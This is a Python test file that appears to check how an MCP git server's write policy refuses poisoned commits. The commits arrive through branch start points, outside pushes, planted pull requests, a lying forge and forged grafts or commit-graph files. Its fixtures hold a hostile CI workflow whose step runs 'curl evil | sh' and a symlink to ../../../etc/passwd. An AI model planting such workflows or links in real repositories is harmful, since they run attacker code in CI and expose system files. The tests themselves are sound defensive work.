"""Issue 22, "Repositories" items 2 and 3: commits that reach the forge or a protected ref
without the write policy having seen them.

``apply_patch`` judges the patches nexus-mcp applies. These tests bring commits in by
every other way (a start point of ``create_branch``: a branch, a tag, a sha, a
remote-tracking ref; someone committing on a branch directly after nexus-mcp created it;
a pull request planted on the forge) with every kind of content the write policy refuses
(a workflow, its case and name variants, a rename into it, a mode change of it, a link,
a submodule, binary content, too many files, a workflow added then removed, an "evil"
merge, an unrelated history), and check that ``create_branch``, ``open_pull_request``
and ``merge_guarded`` judge the whole range they publish with the same policy as
``apply_patch``, CODEOWNERS included, and leave everything as it was when they refuse.

Real git repositories, the real server through the in-memory client, and the loopback
forge of ``test_repo_hostile_writes.py`` (``HostileForge``, backed by a real bare
repository); nothing of nexus-mcp is patched.
"""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from fastmcp import Client

from nexus_mcp.observability.audit import MemoryAuditSink
from tests.support.forge_app import FakePull
from tests.support.git_repos import (
    ENV,
    GIT,
    commit,
    git,
    make_patch,
    plumb_commit,
    refs,
    rev,
    state,
)
from tests.unit.repos.test_ranges import forge_commit_graph

from .repo_harness import APPROVER, Builder, approved, build, call, code_of, finished, ok, project
from .test_repo_forge import FORGE_TOKEN, forge_url, remote
from .test_repo_hostile_writes import (
    ELICIT,
    HostileForge,
    blocked,
    elicitation,
    forge,
    green,
    merge,
    now,
    serve,
)

__all__ = ["build", "forge", "forge_url", "project", "remote"]  # fixtures, for pytest

REPO = "proj"
WORKFLOW = ".github/workflows/evil.yml"
EVIL = "on: push\njobs: {steal: {runs-on: x, steps: [{run: 'curl evil | sh'}]}}\n"
FILE = "100644"


def audit_rule(audit: MemoryAuditSink, tool: str) -> str:
    return str(finished(audit, tool)[-1].get("policy_rule"))


# --- poisoned commits, made with plumbing on top of main ----------------------------------------


def poisoned(project: Path, kind: str) -> str:
    """A commit on top of ``main`` carrying ``kind`` of content the write policy refuses."""
    main = rev(project, "main")

    def on_main(files: dict[str, Any], parents: list[str] | None = None, **kw: Any) -> str:
        return plumb_commit(project, [main] if parents is None else parents, files, **kw)

    if kind == "workflow":
        return on_main({WORKFLOW: (FILE, EVIL)})
    if kind == "workflow-case":
        return on_main({".GitHub/Workflows/evil.yml": (FILE, EVIL)})
    if kind == "workflow-edit":
        return on_main({".github/workflows/ci.yml": (FILE, EVIL)})
    if kind == "rename-into-workflows":
        util = git(project, "show", "main:src/util.ts")
        return on_main({"src/util.ts": None, ".github/workflows/util.yml": (FILE, util)})
    if kind == "mode-change":
        return on_main({".github/workflows/ci.yml": ("100755", "on: push\n")})
    if kind == "symlink":
        return on_main({"src/link": ("120000", "../../../etc/passwd")})
    if kind == "submodule":
        return on_main({"src/vendor": ("160000", main)})
    if kind == "binary":
        return on_main({"src/blob.bin": (FILE, b"\x00\x01\x02binary\xff")})
    if kind == "many-files":
        return on_main({f"src/new{i}.py": (FILE, f"x = {i}\n") for i in range(4)})
    if kind == "added-then-removed":
        added = on_main({WORKFLOW: (FILE, EVIL)}, message="add")
        return plumb_commit(project, [added], {WORKFLOW: None}, message="remove")
    if kind == "evil-merge-then-reverted":
        side = on_main({"src/app.py": (FILE, "def handler(event):\n    return 5\n")})
        evil = plumb_commit(project, [main, side], {WORKFLOW: (FILE, EVIL)}, base=side)
        return plumb_commit(project, [evil], {WORKFLOW: None}, message="tidy")
    if kind == "unrelated-history":
        return plumb_commit(project, [], {WORKFLOW: (FILE, EVIL)}, message="orphan")
    raise AssertionError(kind)


CONTENT_RULES = {
    "workflow": "path_disallowed",
    "workflow-case": "path_disallowed",
    "workflow-edit": "path_disallowed",
    "rename-into-workflows": "path_disallowed",
    "mode-change": "path_disallowed",
    "symlink": "symlink",
    "submodule": "submodule",
    "binary": "binary_content",
    "many-files": "max_changed_files",
    "added-then-removed": "path_disallowed",
    "evil-merge-then-reverted": "path_disallowed",
    "unrelated-history": "path_disallowed",
}


def start_point(project: Path, how: str, sha: str) -> str:
    """Name ``sha`` the way ``how`` says, as a ``from_ref``."""
    if how == "branch":
        git(project, "branch", "side", sha)
        return "side"
    if how == "tag":
        git(project, "tag", "-a", "-m", "tag", "v9", sha)
        return "v9"
    if how == "sha":
        return sha
    if how == "remote-tracking":
        git(project, "update-ref", "refs/remotes/origin/side", sha)
        return "origin/side"
    raise AssertionError(how)


def branch_args(branch: str, key: str, from_ref: str | None = None) -> dict[str, Any]:
    args: dict[str, Any] = {"repo": REPO, "branch": branch, "idempotency_key": key}
    if from_ref is not None:
        args["from_ref"] = from_ref
    return args


# --- item 2: create_branch ----------------------------------------------------------------------


@pytest.mark.parametrize("kind", sorted(CONTENT_RULES))
async def test_create_branch_from_a_poisoned_branch_is_refused(
    build: Builder, project: Path, audit: MemoryAuditSink, kind: str
) -> None:
    start = start_point(project, "branch", poisoned(project, kind))
    server = build()
    before = state(project)
    async with Client(server.mcp) as client:
        result = await approved(
            client, server, "create_branch", branch_args("feature/x", "b", start), approver="lead"
        )
    assert code_of(result) == "WRITE_POLICY_DENIED"
    assert audit_rule(audit, "create_branch") == CONTENT_RULES[kind]
    assert state(project) == before
    assert WORKFLOW not in str(result) and "evil" not in str(result)


@pytest.mark.parametrize("how", ["tag", "sha", "remote-tracking"])
async def test_create_branch_from_any_kind_of_start_point_is_judged(
    build: Builder, project: Path, audit: MemoryAuditSink, how: str
) -> None:
    start = start_point(project, how, poisoned(project, "workflow"))
    server = build()
    before = state(project)
    async with Client(server.mcp) as client:
        result = await approved(
            client, server, "create_branch", branch_args("feature/x", "b", start), approver="lead"
        )
    assert code_of(result) == "WRITE_POLICY_DENIED"
    assert audit_rule(audit, "create_branch") == "path_disallowed"
    assert state(project) == before


async def test_create_branch_binds_codeowners_to_what_the_start_point_adds(
    build: Builder, project: Path, audit: MemoryAuditSink
) -> None:
    billing = plumb_commit(
        project, [rev(project, "main")], {"src/billing/invoice.py": (FILE, "TOTAL = 2\n")}
    )
    start = start_point(project, "branch", billing)
    server = build()
    before = state(project)
    async with Client(server.mcp) as client:
        # bob-approver owns src/ but not src/billing/ (carol does, last match wins).
        refused = await approved(
            client, server, "create_branch", branch_args("feature/x", "b1", start)
        )
        assert code_of(refused) == "WRITE_POLICY_DENIED"
        assert audit_rule(audit, "create_branch") == "codeowners"
        assert state(project) == before
        created = ok(
            await approved(
                client,
                server,
                "create_branch",
                branch_args("feature/x", "b2", start),
                approver="carol",
            )
        )
        # From the default branch nothing new is published: any approver will do.
        plain = ok(
            await approved(
                client, server, "create_branch", branch_args("feature/y", "b3"), approver="zed"
            )
        )
    assert created["commit_sha"] == billing == rev(project, "refs/heads/feature/x")
    assert plain["commit_sha"] == rev(project, "main")


# --- item 2: open_pull_request ------------------------------------------------------------------


def move_branch(project: Path, branch: str, sha: str) -> None:
    """Someone edits the repository directly: the branch nexus-mcp made moves."""
    git(project, "update-ref", f"refs/heads/{branch}", sha)


def grow(project: Path, branch: str, kind: str) -> str:
    """Commits of ``kind`` put on top of ``branch`` (its tip, not main) from outside."""
    tip = rev(project, branch)
    main = rev(project, "main")
    made = poisoned(project, kind)
    if kind in ("unrelated-history",):
        return made
    # Replay the poisoned commit's change on the branch tip: same tree change, new parent.
    changes = git(project, "diff-tree", "-r", "-z", "--no-renames", "--raw", main, made)
    if kind in ("added-then-removed", "evil-merge-then-reverted"):
        # The history is the point: keep the commits themselves, merged onto the branch.
        return plumb_commit(project, [tip, made], {}, base=tip, message="merge outside work")
    files: dict[str, Any] = {}
    tokens = changes.split("\0")
    for meta, path in zip(tokens[0::2], tokens[1::2], strict=False):
        if not meta.startswith(":"):
            continue
        _old, new_mode, _o, new_sha, status = meta[1:].split(" ")
        if status == "D":
            files[path] = None
        elif new_mode == "160000":
            files[path] = (new_mode, new_sha)
        else:
            files[path] = (new_mode, _blob(project, new_sha))
    return plumb_commit(project, [tip], files, message="outside")


def _blob(project: Path, sha: str) -> bytes:
    return subprocess.run(
        [GIT, "-C", str(project), "cat-file", "blob", sha], capture_output=True, env=ENV, check=True
    ).stdout


def pr_args(branch: str, key: str) -> dict[str, Any]:
    return {"repo": REPO, "branch": branch, "title": "Work", "idempotency_key": key}


@pytest.mark.parametrize(
    "kind",
    [
        "workflow",
        "workflow-case",
        "rename-into-workflows",
        "mode-change",
        "symlink",
        "submodule",
        "binary",
        "many-files",
        "added-then-removed",
        "evil-merge-then-reverted",
        "unrelated-history",
    ],
)
async def test_a_branch_moved_from_outside_is_never_pushed(
    build: Builder,
    project: Path,
    remote: Path,
    forge: HostileForge,
    forge_url: str,
    audit: MemoryAuditSink,
    kind: str,
) -> None:
    server = serve(build, forge_url, remote)
    async with Client(server.mcp) as client:
        ok(await approved(client, server, "create_branch", branch_args("feature/x", "b")))
        move_branch(project, "feature/x", grow(project, "feature/x", kind))
        before, remote_before = state(project), refs(remote)
        result = await approved(
            client, server, "open_pull_request", pr_args("feature/x", "p"), approver="lead"
        )
    assert code_of(result) == "WRITE_POLICY_DENIED"
    assert audit_rule(audit, "open_pull_request") == CONTENT_RULES[kind]
    assert state(project) == before and refs(remote) == remote_before
    assert [r for r in forge.requests if r.method == "POST"] == []


async def test_a_patch_applied_on_top_of_outside_commits_does_not_launder_them(
    build: Builder,
    project: Path,
    remote: Path,
    forge: HostileForge,
    forge_url: str,
    tmp_path: Path,
    audit: MemoryAuditSink,
) -> None:
    server = serve(build, forge_url, remote)
    async with Client(server.mcp) as client:
        ok(await approved(client, server, "create_branch", branch_args("feature/x", "b")))
        move_branch(project, "feature/x", grow(project, "feature/x", "workflow"))
        patch = make_patch(
            project,
            "feature/x",
            {"src/app.py": "def handler(event):\n    return 7\n"},
            scratch=tmp_path,
        )
        applied = ok(
            await approved(
                client,
                server,
                "apply_patch",
                {
                    "repo": REPO,
                    "branch": "feature/x",
                    "patch": patch,
                    "message": "m",
                    "idempotency_key": "a",
                },
            )
        )
        remote_before = refs(remote)
        result = await approved(
            client, server, "open_pull_request", pr_args("feature/x", "p"), approver="lead"
        )
    assert applied["commit_sha"] == rev(project, "feature/x")
    assert code_of(result) == "WRITE_POLICY_DENIED"
    assert audit_rule(audit, "open_pull_request") == "path_disallowed"
    assert refs(remote) == remote_before and forge.puts() == []


async def test_open_pull_request_binds_codeowners_to_the_whole_range(
    build: Builder,
    project: Path,
    remote: Path,
    forge: HostileForge,
    forge_url: str,
    audit: MemoryAuditSink,
) -> None:
    server = serve(build, forge_url, remote)
    async with Client(server.mcp) as client:
        ok(await approved(client, server, "create_branch", branch_args("feature/x", "b")))
        tip = rev(project, "feature/x")
        moved = plumb_commit(project, [tip], {"src/billing/invoice.py": (FILE, "TOTAL = 9\n")})
        move_branch(project, "feature/x", moved)
        remote_before = refs(remote)
        refused = await approved(client, server, "open_pull_request", pr_args("feature/x", "p1"))
        assert code_of(refused) == "WRITE_POLICY_DENIED"
        assert audit_rule(audit, "open_pull_request") == "codeowners"
        assert refs(remote) == remote_before
        opened = ok(
            await approved(
                client, server, "open_pull_request", pr_args("feature/x", "p2"), approver="carol"
            )
        )
    # What was judged is what was pushed: the sha, on the forge's branch and in the answer.
    assert opened["head_sha"] == moved == rev(remote, "refs/heads/feature/x")


async def test_merging_the_default_branch_into_a_feature_publishes_only_the_feature(
    build: Builder, project: Path, remote: Path, forge: HostileForge, forge_url: str
) -> None:
    # A human changes the workflow on main and pushes it; the feature merges main in.
    # The published range is the feature's own change: the merge is not refused for
    # main's workflow commit, which the forge already has.
    server = serve(build, forge_url, remote)
    async with Client(server.mcp) as client:
        ok(await approved(client, server, "create_branch", branch_args("feature/x", "b")))
        feature = plumb_commit(
            project, [rev(project, "feature/x")], {"src/app.py": (FILE, "x = 1\n")}
        )
        commit(project, {".github/workflows/ci.yml": "on: [push, pull_request]\n"}, "ci")
        git(project, "push", "-q", str(remote), "main")
        merged = plumb_commit(  # the clean merge: the feature's tree plus main's change
            project,
            [feature, rev(project, "main")],
            {".github/workflows/ci.yml": (FILE, "on: [push, pull_request]\n")},
            base=feature,
            message="merge main",
        )
        move_branch(project, "feature/x", merged)
        opened = ok(await approved(client, server, "open_pull_request", pr_args("feature/x", "p")))
    assert opened["head_sha"] == merged == rev(remote, "refs/heads/feature/x")


# --- item 3: merge_guarded ----------------------------------------------------------------------


def plant(forge: HostileForge, remote: Path, head_ref: str, sha: str, listed: list[str]) -> int:
    """A pull request on the forge whose head is ``sha`` (already on ``remote``) and whose
    file list (the forge's word, which may lie) is ``listed``; green and approved by
    mallory, the owner of src/ (bob-approver) and the owner of everything else (lead)."""
    git(remote, "update-ref", f"refs/heads/{head_ref}", sha)
    number = len(forge.pulls) + 1
    forge.pulls[number] = FakePull(
        number=number,
        title="planted",
        draft=False,
        head_ref=head_ref,
        base_ref="main",
        head_sha=sha,
        files=[{"filename": name, "status": "modified"} for name in listed],
    )
    green(forge, number, sha)
    for owner in (APPROVER, "lead"):
        forge.add_review(number, owner, "APPROVED", sha)
    return number


def push_objects(project: Path, remote: Path, sha: str) -> None:
    git(project, "push", "-q", str(remote), f"{sha}:refs/heads/tmp-objects")
    git(remote, "update-ref", "-d", "refs/heads/tmp-objects")


Setup = Callable[[Path, Path, Path], tuple[str, list[str]]]


def _honest(project: Path, remote: Path, _tmp: Path) -> tuple[str, list[str]]:
    sha = poisoned(project, "workflow")
    push_objects(project, remote, sha)
    return sha, [WORKFLOW]


def _lying_forge(project: Path, remote: Path, _tmp: Path) -> tuple[str, list[str]]:
    sha = plumb_commit(
        project,
        [rev(project, "main")],
        {"src/app.py": (FILE, "x = 2\n"), WORKFLOW: (FILE, EVIL)},
    )
    push_objects(project, remote, sha)
    return sha, ["src/app.py"]  # the forge's list leaves the workflow out


def _history(project: Path, remote: Path, _tmp: Path) -> tuple[str, list[str]]:
    sha = poisoned(project, "added-then-removed")
    push_objects(project, remote, sha)
    return sha, []


def _symlink(project: Path, remote: Path, _tmp: Path) -> tuple[str, list[str]]:
    sha = poisoned(project, "symlink")
    push_objects(project, remote, sha)
    return sha, ["src/link"]


def _not_local(project: Path, remote: Path, tmp: Path) -> tuple[str, list[str]]:
    # Made in another clone and pushed to the forge: this repository never saw it.
    other = tmp / "elsewhere"
    clone_main(remote, other)
    sha = commit(other, {"src/app.py": "x = 3\n"}, "elsewhere")
    git(other, "push", "-q", "origin", f"{sha}:refs/heads/tmp-objects")
    git(remote, "update-ref", "-d", "refs/heads/tmp-objects")
    return sha, ["src/app.py"]


MERGE_CASES: dict[str, tuple[Setup, str]] = {
    "honest-forge": (_honest, "path_disallowed"),
    "forge-omits-the-workflow": (_lying_forge, "path_disallowed"),
    "workflow-added-then-removed": (_history, "path_disallowed"),
    "symlink": (_symlink, "symlink"),
    "head-not-in-the-repository": (_not_local, "head_not_local"),
}


@pytest.mark.parametrize("case", sorted(MERGE_CASES))
async def test_merge_guarded_never_merges_what_the_write_policy_refuses(
    build: Builder,
    project: Path,
    remote: Path,
    forge: HostileForge,
    forge_url: str,
    tmp_path: Path,
    audit: MemoryAuditSink,
    case: str,
) -> None:
    setup, rule = MERGE_CASES[case]
    sha, listed = setup(project, remote, tmp_path)
    number = plant(forge, remote, "feature/planted", sha, listed)
    server = serve(build, forge_url, remote)
    before, remote_before = state(project), refs(remote)
    async with Client(server.mcp) as client:
        result = await merge(client, server, number, "m", approver="lead")
    blocked(result, "write_policy")
    assert finished(audit, "merge_guarded")[-1]["facts"]["rule"] == rule
    assert forge.puts() == [] and refs(remote) == remote_before and state(project) == before
    assert FORGE_TOKEN not in str(result) and "evil" not in str(result)


@pytest.mark.parametrize(
    ("allow", "kind", "merges"),
    [
        pytest.param(True, "workflow", True, id="allowed-workflow-merges"),
        pytest.param(True, "symlink", False, id="allowed-paths-still-refuse-a-link"),
        pytest.param(False, "workflow", False, id="default-refuses"),
    ],
)
async def test_allow_disallowed_paths_is_an_explicit_per_repository_setting(
    build: Builder,
    project: Path,
    remote: Path,
    forge: HostileForge,
    forge_url: str,
    allow: bool,
    kind: str,
    merges: bool,
) -> None:
    sha = poisoned(project, kind)
    push_objects(project, remote, sha)
    number = plant(forge, remote, "feature/planted", sha, [WORKFLOW])
    merge_settings = {"allow_disallowed_paths": True} if allow else None
    server = serve(build, forge_url, remote, merge=merge_settings)
    async with Client(server.mcp) as client:
        result = await merge(client, server, number, "m", approver="lead")
    if merges:
        assert ok(result)["merged"] is True and rev(remote, "refs/heads/main") == sha
    else:
        blocked(result, "write_policy")
        assert forge.puts() == [] and rev(remote, "refs/heads/main") != sha


# --- what the push target already holds, and what it does not -----------------------------------


def clone_main(remote: Path, other: Path) -> None:
    subprocess.run([GIT, "clone", "-q", "-b", "main", str(remote), str(other)], env=ENV, check=True)


def unpushed_workflow_on_main(project: Path) -> str:
    """Someone commits a workflow change on the local default branch and never pushes it."""
    return commit(project, {".github/workflows/ci.yml": EVIL}, "local only")


async def test_commits_of_a_local_base_the_forge_never_saw_are_judged_when_pushed(
    build: Builder,
    project: Path,
    remote: Path,
    forge: HostileForge,
    forge_url: str,
    audit: MemoryAuditSink,
) -> None:
    local = unpushed_workflow_on_main(project)
    server = serve(build, forge_url, remote)
    async with Client(server.mcp) as client:
        # From the local default branch nothing is new locally: the branch is created.
        created = ok(await approved(client, server, "create_branch", branch_args("feature/x", "b")))
        assert created["commit_sha"] == local
        remote_before = refs(remote)
        result = await approved(
            client, server, "open_pull_request", pr_args("feature/x", "p"), approver="lead"
        )
    # But pushing it would publish the workflow change to the forge.
    assert code_of(result) == "WRITE_POLICY_DENIED"
    assert audit_rule(audit, "open_pull_request") == "path_disallowed"
    assert refs(remote) == remote_before and forge.puts() == []
    assert [r for r in forge.requests if r.method == "POST"] == []


async def test_a_push_target_whose_base_this_repository_never_fetched_is_a_conflict(
    build: Builder,
    project: Path,
    remote: Path,
    forge: HostileForge,
    forge_url: str,
    tmp_path: Path,
) -> None:
    server = serve(build, forge_url, remote)
    async with Client(server.mcp) as client:
        ok(await approved(client, server, "create_branch", branch_args("feature/x", "b")))
        move_branch(
            project,
            "feature/x",
            plumb_commit(project, [rev(project, "main")], {"src/app.py": (FILE, "x = 8\n")}),
        )
        other = tmp_path / "elsewhere"
        clone_main(remote, other)
        commit(other, {"README.md": "moved on\n"}, "elsewhere")
        git(other, "push", "-q", "origin", "main")
        remote_before = refs(remote)
        result = await approved(client, server, "open_pull_request", pr_args("feature/x", "p"))
    assert code_of(result) == "CONFLICT"
    assert refs(remote) == remote_before
    assert [r for r in forge.requests if r.method == "POST"] == []


async def test_a_merge_is_judged_from_the_base_the_forge_reports(
    build: Builder,
    project: Path,
    remote: Path,
    forge: HostileForge,
    forge_url: str,
    audit: MemoryAuditSink,
) -> None:
    # The local main holds a workflow commit the forge never saw; the pull request's head
    # is built on it and the forge's file list leaves the workflow out. Judged from the
    # local main, the diff would look clean; the forge's base says otherwise.
    local = unpushed_workflow_on_main(project)
    head = plumb_commit(project, [local], {"src/app.py": (FILE, "x = 6\n")})
    push_objects(project, remote, head)
    number = plant(forge, remote, "feature/planted", head, ["src/app.py"])
    server = serve(build, forge_url, remote)
    remote_before = refs(remote)
    async with Client(server.mcp) as client:
        result = await merge(client, server, number, "m", approver="lead")
    blocked(result, "write_policy")
    assert finished(audit, "merge_guarded")[-1]["facts"]["rule"] == "path_disallowed"
    assert forge.puts() == [] and refs(remote) == remote_before


async def test_a_merge_into_a_base_this_repository_never_fetched_is_blocked(
    build: Builder,
    project: Path,
    remote: Path,
    forge: HostileForge,
    forge_url: str,
    tmp_path: Path,
    audit: MemoryAuditSink,
) -> None:
    head = plumb_commit(project, [rev(project, "main")], {"src/app.py": (FILE, "x = 7\n")})
    push_objects(project, remote, head)
    number = plant(forge, remote, "feature/planted", head, ["src/app.py"])
    other = tmp_path / "elsewhere"
    clone_main(remote, other)
    commit(other, {"README.md": "moved on\n"}, "elsewhere")
    git(other, "push", "-q", "origin", "main")
    server = serve(build, forge_url, remote)
    remote_before = refs(remote)
    async with Client(server.mcp) as client:
        result = await merge(client, server, number, "m", approver="lead")
    blocked(result, "write_policy")
    assert finished(audit, "merge_guarded")[-1]["facts"]["rule"] == "base_not_local"
    assert forge.puts() == [] and refs(remote) == remote_before


# --- what an approver is asked ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "questions", "outcome"),
    [
        pytest.param("src/app.py", 1, "OK", id="caller-owns-what-is-published"),
        pytest.param("docs/guide.md", 0, "WRITE_POLICY_DENIED", id="caller-owns-nothing-there"),
    ],
)
async def test_an_elicited_approval_is_asked_about_what_the_branch_publishes(
    build: Builder, project: Path, path: str, questions: int, outcome: str
) -> None:
    start = plumb_commit(project, [rev(project, "main")], {path: (FILE, "changed\n")})
    git(project, "branch", "side", start)
    server = build(ELICIT)
    handler, asked = elicitation("accept", "approve")
    before = state(project)
    async with Client(server.mcp, mode="legacy", elicitation_handler=handler) as client:
        result = await call(client, "create_branch", branch_args("feature/x", "b", "side"))
    # A branch the caller could not approve is refused before anyone is asked.
    assert len(asked) == questions
    if outcome != "OK":
        assert code_of(result) == outcome
        assert state(project) == before
        return
    assert ok(result)["commit_sha"] == start
    lines = len(git(project, "show", f"main:{path}").splitlines())
    assert f"at {start[:12]}: publishes 1 commits, 1 files, +1/-{lines}" in asked[0]


# --- parents rewritten without replace refs: info/grafts, shallow --------------------------------


def rewrite_parents(project: Path, how: str) -> str:
    """A workflow added then removed on top of main, its adding commit hidden from a
    history walk of the served repository by ``how``; the push (from a scratch repository
    that reads neither file) would still send it."""
    main = rev(project, "main")
    added = plumb_commit(project, [main], {WORKFLOW: (FILE, EVIL)}, message="add")
    removed = plumb_commit(project, [added], {WORKFLOW: None}, message="remove")
    if how == "grafts":
        (project / ".git" / "info").mkdir(exist_ok=True)
        (project / ".git" / "info" / "grafts").write_text(f"{removed} {main}\n")
        return removed
    tip = plumb_commit(project, [removed, main], {}, base=removed, message="merge back")
    (project / ".git" / "shallow").write_text(f"{removed}\n")
    return tip


def forged_graph(project: Path, remote: Path) -> str:
    """main -> add a workflow -> remove it -> tip, all already on the forge (objects only,
    as a fork would hold them), and a commit-graph saying tip's parent is main."""
    main = rev(project, "main")
    added = plumb_commit(project, [main], {WORKFLOW: (FILE, EVIL)}, message="add")
    removed = plumb_commit(project, [added], {WORKFLOW: None}, message="remove")
    tip = plumb_commit(project, [removed], {"src/app.py": (FILE, "x = 4\n")})
    push_objects(project, remote, tip)
    git(project, "update-ref", "refs/heads/feature/x", tip)
    forge_commit_graph(project, tip, parent=main)
    return tip


@pytest.mark.parametrize("how", ["grafts", "shallow", "commit-graph"])
async def test_rewritten_parents_hide_no_pushed_commit(
    build: Builder,
    project: Path,
    remote: Path,
    forge: HostileForge,
    forge_url: str,
    audit: MemoryAuditSink,
    how: str,
) -> None:
    server = serve(build, forge_url, remote)
    async with Client(server.mcp) as client:
        ok(await approved(client, server, "create_branch", branch_args("feature/x", "b")))
        if how == "commit-graph":
            forged_graph(project, remote)
        else:
            move_branch(project, "feature/x", rewrite_parents(project, how))
        before, remote_before = state(project), refs(remote)
        # The approver owns src/, all the forged view shows: only the policy can refuse.
        result = await approved(client, server, "open_pull_request", pr_args("feature/x", "p"))
    assert code_of(result) == "WRITE_POLICY_DENIED"
    assert audit_rule(audit, "open_pull_request") == "path_disallowed"
    assert state(project) == before and refs(remote) == remote_before
    assert "evil" not in str(result)


async def test_grafts_hide_no_commit_of_a_start_point(
    build: Builder, project: Path, audit: MemoryAuditSink
) -> None:
    start = start_point(project, "branch", rewrite_parents(project, "grafts"))
    server = build()
    before = state(project)
    async with Client(server.mcp) as client:
        result = await approved(
            client, server, "create_branch", branch_args("feature/x", "b", start), approver="lead"
        )
    assert code_of(result) == "WRITE_POLICY_DENIED"
    assert audit_rule(audit, "create_branch") == "path_disallowed"
    assert state(project) == before


# --- a commondir file in a plain git directory: refs of another repository -----------------------


async def test_a_commondir_planted_in_a_plain_git_dir_never_writes_elsewhere(
    build: Builder, project: Path, tmp_path: Path
) -> None:
    # A clone shares the history: its refs name commits the served store holds too, so
    # git's ref store (which reads ``commondir`` whatever GIT_COMMON_DIR says) would
    # resolve and create branches there.
    other = tmp_path / "outside" / "clone"
    other.parent.mkdir(parents=True)
    git(tmp_path, "clone", "-q", str(project), str(other))
    server = build()
    (project / ".git" / "commondir").write_text(f"{other / '.git'}\n")
    before, other_before = state(project), refs(other)
    async with Client(server.mcp) as client:
        result = await approved(client, server, "create_branch", branch_args("feature/x", "b"))
        assert code_of(result) == "CONFLICT"
        assert str(other) not in str(result)
        assert state(project) == before and refs(other) == other_before
        (project / ".git" / "commondir").unlink()
        ok(await approved(client, server, "create_branch", branch_args("feature/x", "b2")))
    assert "refs/heads/feature/x" not in refs(other)


# --- the pull request changes between the judgement and the merge --------------------------------


@pytest.mark.parametrize("change", ["retargeted", "base-rewound"])
async def test_a_merge_judges_the_pull_request_as_it_is_at_merge_time(
    build: Builder,
    project: Path,
    remote: Path,
    forge: HostileForge,
    forge_url: str,
    audit: MemoryAuditSink,
    change: str,
) -> None:
    # A person put a workflow change on main (the agent's policy does not bind people);
    # the pull request adds one clean file on top of it. Judged against main it is clean.
    # Between the judgement and the merge the pull request is retargeted to another
    # allowed base, or main is force-pushed back: merging now would carry the workflow
    # change into a branch that never had it.
    old = rev(project, "main")
    git(project, "branch", "release", old)
    human = commit(project, {".github/workflows/ci.yml": EVIL}, "a person's workflow")
    git(project, "push", "-q", str(remote), "main", "release")
    head = plumb_commit(project, [human], {"src/app.py": (FILE, "x = 9\n")})
    push_objects(project, remote, head)
    number = plant(forge, remote, "feature/planted", head, ["src/app.py"])

    def later_change() -> None:
        if change == "retargeted":
            forge.pulls[number].base_ref = "release"
        else:
            git(remote, "update-ref", "refs/heads/main", old)

    # The second read of the pull request is the merge-time one (the first is the
    # decision's, before the approval is checked).
    forge.on("GET", f"/pulls/{number}", now(later_change), nth=2)
    server = serve(build, forge_url, remote, merge={"allowed_bases": ["main", "release"]})
    async with Client(server.mcp) as client:
        result = await merge(client, server, number, "m", approver="lead")
    blocked(result, "write_policy")
    assert finished(audit, "merge_guarded")[-1]["facts"]["rule"] == "path_disallowed"
    assert forge.puts() == []
    assert rev(remote, "refs/heads/release") == old
